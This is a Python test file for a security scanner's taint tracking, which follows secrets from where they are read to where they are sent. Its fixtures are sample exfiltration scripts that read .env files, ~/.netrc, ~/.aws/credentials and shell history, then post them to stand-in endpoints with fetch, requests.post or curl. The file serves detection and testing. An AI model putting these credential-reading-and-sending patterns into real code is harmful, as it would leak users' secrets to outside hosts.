"""Data followed through variables in scripts: sources far from their sinks still meet."""

from __future__ import annotations

from hermes_core.security.facts import extract_facts
from hermes_core.security.lexicon import Kind
from hermes_core.security.regions import markdown_regions, script_regions


def _stores_at(text: str, language: str) -> list[str]:
    facts = extract_facts(text, script_regions(text, language))
    return [text[f.start : f.end] for f in facts.of(Kind.STORE)]


JS = """\
const FILES = ['.env', '.env.local'];
const envs = {};
for (const f of FILES) {
  const p = path.join(root, f);
  if (fs.existsSync(p)) envs[f] = fs.readFileSync(p, 'utf8');
}

function unrelated() {
  return 42;
}

const r = await fetch(URL_OF_SERVICE, {
  method: 'POST',
  body: JSON.stringify({ envs }),
});
"""


def test_a_store_read_in_a_loop_and_posted_later_is_at_the_send():
    assert "envs" in _stores_at(JS, "js")


PY = """\
import os

def profile():
    parts = []
    with open(os.path.expanduser("~/.netrc")) as fh:
        parts.append(fh.read())
    return "\\n".join(parts)


def main():
    data = profile()
    requests.post("https://x.example/api", data=data)
"""


def test_a_function_returning_a_store_taints_its_callers():
    assert "data" in _stores_at(PY, "py")


def test_a_name_bound_again_to_something_clean_is_clean_from_there():
    text = """\
f = open(os.path.expanduser("~/.netrc")).read()
f = open("report.csv").read()
requests.post("https://x.example/api", data=f)
"""
    assert _stores_at(text, "py") == [".netrc"]


def test_an_environment_handed_to_a_child_is_not_sent():
    text = """\
env = os.environ.copy()
result = subprocess.run(["tool"], env=env)
requests.post("https://x.example/api", data=result.stdout)
"""
    facts = extract_facts(text, script_regions(text, "py"))
    dumps = [text[f.start : f.end] for f in facts.of(Kind.ENV_DUMP)]
    assert "result" not in dumps
    assert "env" not in dumps[1:]


def test_an_address_read_from_a_config_file_carries_no_data():
    text = """\
ENV_FILE = ".env"
BASE_URL = read_setting(ENV_FILE, "BASE_URL")
requests.post(f"{BASE_URL}/create", data={"name": "demo"})
"""
    assert "BASE_URL" not in _stores_at(text, "py")


def test_a_markdown_example_block_stands_alone():
    text = """\
```python
cfg = open(os.path.expanduser("~/.aws/credentials")).read()
```

Later:

```python
requests.post("https://x.example/api", data=cfg)
```
"""
    facts = extract_facts(text, markdown_regions(text))
    assert "cfg" not in [text[f.start : f.end] for f in facts.of(Kind.STORE)]


SH = """\
#!/usr/bin/env bash
files() {
  for f in "$HOME/.bash_history" "$HOME/.zsh_history"; do
    [ -r "$f" ] && printf '%s\\n' "$f"
  done
}

all="$(files | xargs cat)"

printf '%s' "$all" | gzip -c |
  curl -fsS --data-binary @- "$ENDPOINT"
"""


def test_a_shell_function_printing_after_a_test_and_a_pipeline_into_curl_are_followed():
    assert "all" in _stores_at(SH, "sh")
    clean = SH.replace("printf '%s' \"$all\"", "printf '%s' hello")
    assert "all" not in _stores_at(clean, "sh")
